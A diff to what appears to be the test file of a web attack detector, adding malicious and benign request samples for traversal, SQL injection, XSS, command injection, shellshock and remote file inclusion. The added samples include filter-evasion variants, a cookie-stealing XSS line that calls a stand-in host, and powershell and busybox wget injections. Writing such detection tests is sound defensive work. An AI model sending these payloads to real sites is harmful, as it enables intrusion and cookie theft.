@@ -134,12 +134,19 @@ const CASES: Record<
       '/x?page=/etc//passwd',
       '/x?page=/etc/./passwd',
       '/x?page=%5cetc%5cpasswd',
+      // `..` after `=`, `\\` or at the start, before `\\` or a query, without any OS file named.
+      '/download?file=..\\config.php',
+      '/download?file=../config.php',
+      '/download?file=a\\../b',
+      '/static/..?x=1',
+      '../secret.txt',
     ],
     no: [
       '/files/a..b.txt',
       '/blog/.../post',
       '/docs/etc/passwords-policy.html',
       '/x?v=1..2',
+      '/files/v1../readme',
       '/x?u=https://example.com//docs/etc/passwd-explained',
     ],
   },
@@ -172,6 +179,9 @@ const CASES: Record<
       '/item?id=1%20union--%0aselect%201',
       '/item?id=1;drop/*x*/table%20users',
       "/login?user=admin')%20--",
+      // Runs of spaces, and no-break spaces alone (which MySQL's latin1 takes for spaces).
+      '/item?id=-1%20union%20%20%20select%201',
+      '/item?id=-1%c2%a0union%c2%a0select%c2%a01',
     ],
     no: [
       '/blog/union-select-explained',
@@ -191,6 +201,9 @@ const CASES: Record<
       // A comment-like `#` or `/*` in text that has no SQL around it.
       '/search?q=%23union%0aselected+works',
       '/search?q=/*+union+*/+membership',
+      // A `#` after a letter (C#), and hashtags after a quote, whatever letter, digit or `_` starts them.
+      '/search?q=c%23+tutorial',
+      "/search?q='%23a+'%23z+'%230+'%239+'%23_x",
       // A referer may carry someone's search text; SQL is looked for in the user agent only.
       ['/', { referer: "https://www.example.org/search?q=1' or '1'='1" }],
     ],
@@ -211,6 +224,13 @@ const CASES: Record<
       "/x?q=x'%20onfocus=prompt(document.domain)%20autofocus='",
       '/x?q=alert`1`',
       "/x?q=confirm('xss')",
+      // Script calls without a dialog: reading the cookie, building text from character codes, IE's CSS expression.
+      '/x?q=eval(string.fromcharcode(88,83,83))',
+      '/x?q=new%20image().src=%22//e.vil/?c=%22%2bdocument.cookie',
+      '/x?s=width:expression(1)',
+      // A handler breaking out of an attribute, calling no dialog.
+      '/x?q=%22%20onmouseover=x%20%22',
+      "/x?q=x'/onfocus=y",
     ],
     no: [
       '/search?q=a<b',
@@ -222,6 +242,7 @@ const CASES: Record<
       '/widget?onload=fast&theme=dark',
       '/search?q=alert(everyone)',
       '/search?q=prompt(engineering)+course',
+      '/search?q=document.cookie+explained',
     ],
   },
   'command-injection': {
@@ -238,6 +259,8 @@ const CASES: Record<
       '/x?c=;sleep 5',
       '/x?c=|id;',
       '/cgi-bin/x?cmd=/bin//sh',
+      '/x?c=powershell.exe%20-enc%20abc',
+      '/x?c=busybox%20wget',
     ],
     no: [
       '/files/?C=M;O=D',
@@ -248,6 +271,10 @@ const CASES: Record<
       '/search?q=kids;+ping+pong',
       "/search?q=mother's+day;+cat+gifts",
       '/search?q=yoga|sleep+better',
+      // Pages whose names start with a shell's.
+      '/blog/powershell-tips',
+      '/docs/bin/sharing',
+      '/downloads/busybox-guide',
     ],
   },
   shellshock: {
@@ -255,6 +282,7 @@ const CASES: Record<
       ['/cgi-bin/status', { userAgent: '() { :; }; /bin/bash -c "id"' }],
       ['/', { referer: '() { :;}; echo vulnerable' }],
       '/cgi-bin/x?q=()%20{%20:;%20};%20id',
+      '/cgi-bin/x?q=()%09{%20:;%20};%20id',
     ],
     no: [['/', { userAgent: 'Mozilla/5.0 (compatible) {x}' }], '/docs/functions()/braces{}'],
   },
@@ -274,8 +302,55 @@ const CASES: Record<
       '/index.php?file=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+',
       '/view?page=http://evil.example/c99.txt',
       '/index.php?lang=https://e.vil/x',
+      '/index.php?lang=ftp://e.vil/x',
+      '/view.html?page=http://e.vil/x?',
     ],
-    no: ['/login?next=https://example.com/account', '/out?url=http://example.org/page.html'],
+    no: [
+      '/login?next=https://example.com/account',
+      '/out?url=http://example.org/page.html',
+      // WordPress's login after a signed-out admin visit, and URL parameters after `&` and `;`.
+      '/wp-login.php?redirect_to=https%3A%2F%2Fexample.com%2Fwp-admin%2F&reauth=1',
+      '/go.php?a=1&next=https://example.com/',
+      '/go.php?a=1;url=https://example.com/',
+      // Every parameter that carries a URL by design, on a PHP page.
+      ...[
+        'redirect',
+        'redirect_to',
+        'redirect_uri',
+        'redirect_url',
+        'redirecturl',
+        'return',
+        'return_to',
+        'returnto',
+        'return_url',
+        'returnurl',
+        'next',
+        'url',
+        'u',
+        'uri',
+        'goto',
+        'continue',
+        'callback',
+        'dest',
+        'destination',
+        'target',
+        'link',
+        'href',
+        'ref',
+        'referer',
+        'referrer',
+        'back',
+        'service',
+        'share',
+        'openid.return_to',
+        'success_url',
+        'cancel_url',
+        'site',
+        'website',
+      ].map((name) => `/go.php?${name}=https://example.com/page`),
+      // `data:` without the comma or `;` a data URL needs.
+      '/page.php?q=data:text/html',
+    ],
   },
   'bad-method': {
     yes: [
